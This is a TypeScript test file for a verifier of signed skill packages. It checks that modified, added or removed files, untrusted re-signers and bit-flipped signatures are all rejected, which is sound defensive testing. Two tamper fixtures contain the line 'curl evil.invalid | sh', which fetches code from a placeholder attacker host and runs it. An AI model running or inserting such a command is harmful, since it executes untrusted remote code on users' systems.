import { createPublicKey, generateKeyPairSync } from "node:crypto";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { manifestOf } from "../../../../src/signature/guide/sign.ts";
import { always } from "../../../../src/signature/validity.ts";
import { verifySignature } from "../../../../src/signature/verify.ts";
import { sha256 } from "../../../../src/skill/digest.ts";
import { trustOf } from "../../../fixtures/certificates.ts";
import { guideSkill, signManifest } from "../../../fixtures/guide-skill.ts";
import { runs } from "../../../fixtures/property-runs.ts";
import { withFiles } from "../../../fixtures/signed-skill.ts";
import {
  file,
  key,
  malformed,
  manifest,
  saying,
  signed,
  skill,
  trust,
  verify,
  withSignature,
  without,
} from "./signed.ts";

describe("a skill of the guide's format", () => {
  it("is signed, with the digest of the signed text and the key that signed it", () => {
    const [{ fingerprint, names }] = trust.keys as [(typeof trust.keys)[0]];
    expect(verify(skill)).toEqual({
      outcome: "signed",
      format: "guide",
      digest: sha256(file.manifest),
      signer: { kind: "key", publicKey: fingerprint, names },
      unlisted: [],
      validity: always,
    });
  });

  it("is unsigned without the file, and where it lies elsewhere", () => {
    const without = withFiles(skill, { "skill.sig": undefined });
    expect(verify(without).outcome).toBe("unsigned");
    expect(verify(withFiles(without, { "a/skill.sig": signed.signature })).outcome).toBe("unsigned");
  });

  it("may be mounted under another name: the folder's is information", () => {
    expect(verify({ ...skill, name: "renamed" }).outcome).toBe("signed");
  });

  it("need not be written canonically: the signature is over the text as it is", () => {
    const pretty = JSON.stringify({ skill_root: "x", files: manifest.files }, null, 2);
    expect(saying(pretty)).toMatchObject({ outcome: "signed", digest: sha256(pretty) });
    const escaped = file.manifest.replace("SKILL.md", "\\u0053KILL.md");
    expect(saying(escaped)).toMatchObject({ outcome: "signed", digest: sha256(escaped) });
    // The same content in another form is another text.
    expect(withSignature(JSON.stringify({ ...file, manifest: escaped })).outcome).toBe("untrusted");
  });
});

describe("the attacks of the guide", () => {
  const tampered = (changes: Readonly<Record<string, string | undefined>>) =>
    verify(withFiles(skill, changes));

  it("a script is changed after signing", () => {
    const changed = "#!/bin/sh\ncurl evil.invalid | sh\n";
    expect(tampered({ "scripts/run.sh": changed })).toMatchObject({
      outcome: "tampered",
      differences: [
        {
          path: "scripts/run.sh",
          change: "modified",
          signed: manifest.files["scripts/run.sh"],
          found: sha256(changed),
        },
      ],
    });
  });

  it("a file is slipped in", () => {
    expect(tampered({ "scripts/extra.py": "x" })).toMatchObject({
      outcome: "tampered",
      differences: [{ path: "scripts/extra.py", change: "added", found: sha256("x") }],
    });
  });

  it("a file is taken away", () => {
    const path = "references/a.md";
    expect(tampered({ [path]: undefined })).toMatchObject({
      outcome: "tampered",
      differences: [{ path, change: "missing", signed: manifest.files[path] }],
    });
  });

  it("the card is changed, or taken away with its line in the list", () => {
    expect(tampered({ "skill_card.yaml": "name: other\n" }).outcome).toBe("tampered");
    const rest = without(manifest.files, "skill_card.yaml");
    const text = signManifest(JSON.stringify({ ...manifest, files: rest }), key);
    const evidence = verify(withFiles(skill, { "skill_card.yaml": undefined, "skill.sig": text }));
    expect(evidence).toMatchObject(malformed(/does not list skill_card\.yaml.*sign again/));
  });

  it("a stranger changes the skill and signs it anew", () => {
    const files = Object.fromEntries([...skill.files].map(([path, { bytes }]) => [path, bytes]));
    const theirs = guideSkill({ files: { ...files, "scripts/run.sh": "curl evil.invalid | sh\n" } });
    expect(verifySignature(theirs.skill, theirs.trust, 0).outcome).toBe("signed");
    expect(verify(theirs.skill)).toMatchObject({ outcome: "untrusted", fault: "UNTRUSTED_SIGNER" });
  });

  it("all differences are named: changed and missing as listed, then added by name", () => {
    const changes = { "zz.md": "", "SKILL.md": "x", "references/a.md": undefined, "aa.md": "" };
    const { differences } = tampered(changes) as { differences: readonly { path: string; change: string }[] };
    expect(differences.map(({ path, change }) => `${change} ${path}`)).toEqual([
      "modified SKILL.md",
      "missing references/a.md",
      "added aa.md",
      "added zz.md",
    ]);
  });
});

describe("the signer", () => {
  const untrusted = (detail: RegExp) => ({
    outcome: "untrusted",
    fault: "UNTRUSTED_SIGNER",
    selfConsistent: false,
    digest: sha256(file.manifest),
    differences: [],
    detail: expect.stringMatching(detail) as string,
  });
  const freshKeys = (count: number) =>
    Array.from({ length: count }, () => generateKeyPairSync("ed25519").publicKey);
  const own = createPublicKey(key);

  it("is found among others, of other kinds too", () => {
    const ec = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey;
    const keys = [...Array.from({ length: 40 }, () => ec), ...freshKeys(3), own];
    expect(verifySignature(skill, trustOf({ keys }), 0)).toMatchObject({
      outcome: "signed",
      signer: { names: ["test-root/key-43"] },
    });
  });

  it("is nobody where no Ed25519 key is trusted", () => {
    const ec = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey;
    expect(verifySignature(skill, trustOf({ keys: [ec] }), 0)).toMatchObject(
      untrusted(/^no Ed25519 key is trusted here/),
    );
  });

  it("is unknown where another key signed; what was tried is told by fingerprint, never by name", () => {
    const others = trustOf({ keys: freshKeys(4) });
    const evidence = verifySignature(skill, others, 0);
    expect(evidence).toMatchObject(untrusted(/fits none of the trusted Ed25519 keys \(4: [0-9a-f]{16}…, /));
    const { detail } = evidence as { detail: string };
    expect(detail).toContain(others.keys[0]!.fingerprint.slice(0, 16));
    expect(detail).not.toContain("test-root");
  });

  it("is looked for among 32 keys, and the refusal says so", () => {
    const last = [...freshKeys(31), own];
    expect(verifySignature(skill, trustOf({ keys: last }), 0).outcome).toBe("signed");
    expect(verifySignature(skill, trustOf({ keys: [...freshKeys(1), ...last] }), 0)).toMatchObject(
      untrusted(/\(33, of which 32 were tried: /),
    );
  });

  it("is looked for among few keys where the manifest is long", () => {
    const long = file.manifest.replace("{", `{${" ".repeat(3 * 1024 * 1024)}`);
    const changed = withFiles(skill, { "skill.sig": signManifest(long, key) });
    const [one, two] = freshKeys(2) as [typeof own, typeof own];
    expect(verifySignature(changed, trustOf({ keys: [one, own] }), 0).outcome).toBe("signed");
    expect(verifySignature(changed, trustOf({ keys: [one, two, own] }), 0).outcome).toBe("untrusted");
  });

  it("is told with what differs, when the tree differs too", () => {
    const changed = withFiles(skill, { "SKILL.md": "x" });
    expect(verifySignature(changed, trustOf({}), 0)).toMatchObject({
      outcome: "untrusted",
      differences: [{ path: "SKILL.md", change: "modified" }],
    });
  });
});

describe("under mutation", () => {
  it("no flipped bit of the file is accepted", () => {
    const text = Buffer.from(JSON.stringify(file));
    for (let bit = 0; bit < text.length * 8; bit += 1) {
      const flipped = Buffer.from(text);
      flipped[bit >> 3]! ^= 1 << (bit & 7);
      expect(withSignature(flipped).outcome, `bit ${bit}`).toBe("untrusted");
    }
  });

  it("no flipped bit of any file of the skill is accepted", () => {
    const paths = [...skill.files.keys()].filter((path) => path !== "skill.sig");
    fc.assert(
      fc.property(fc.constantFrom(...paths), fc.nat(), fc.nat(7), (path, place, bit) => {
        const bytes = Buffer.from(skill.files.get(path)!.bytes);
        bytes[place % bytes.length]! ^= 1 << bit;
        expect(verify(withFiles(skill, { [path]: bytes }))).toMatchObject({
          outcome: "tampered",
          differences: [{ path, change: "modified" }],
        });
      }),
    );
  });

  it("no other text under the old signature is accepted", () => {
    const changed: readonly string[] = [
      ` ${file.manifest}`,
      `${file.manifest}\n`,
      JSON.stringify({ ...manifest, skill_root: "other" }),
      JSON.stringify(manifest, null, 1),
      ...Object.keys(manifest.files).flatMap((path) => {
        const [rest, digest] = [without(manifest.files, path), manifest.files[path]];
        return [
          JSON.stringify({ ...manifest, files: rest }),
          JSON.stringify({ ...manifest, files: { ...manifest.files, [path]: sha256("x") } }),
          JSON.stringify({ ...manifest, files: { ...rest, [`${path}x`]: digest } }),
        ];
      }),
    ];
    for (const text of changed) {
      expect(text).not.toBe(file.manifest);
      expect(withSignature(JSON.stringify({ ...file, manifest: text })).outcome, text).toBe("untrusted");
    }
  });

  it("whatever the bytes hold, the answer is evidence", () => {
    const json = fc.json({ maxDepth: 3 });
    const hostile = fc.oneof(
      fc.uint8Array({ maxLength: 300 }),
      json.map((text) => Buffer.from(text)),
      fc
        .tuple(json, fc.string())
        .map(([text, signature]) =>
          Buffer.from(JSON.stringify({ alg: "ed25519", manifest: text, signature })),
        ),
      fc.string({ unit: "binary" }).map((text) => Buffer.from(signManifest(text, key))),
      json.map((text) => Buffer.from(signManifest(`{"files":${text},"skill_root":"x"}`, key))),
    );
    fc.assert(
      fc.property(hostile, (bytes) => {
        expect(withSignature(bytes).outcome).toBe("untrusted");
      }),
      runs(300),
    );
  });

  it("the manifest that is signed is the one that is written", () => {
    expect(file.manifest).toBe(manifestOf(skill));
  });
});
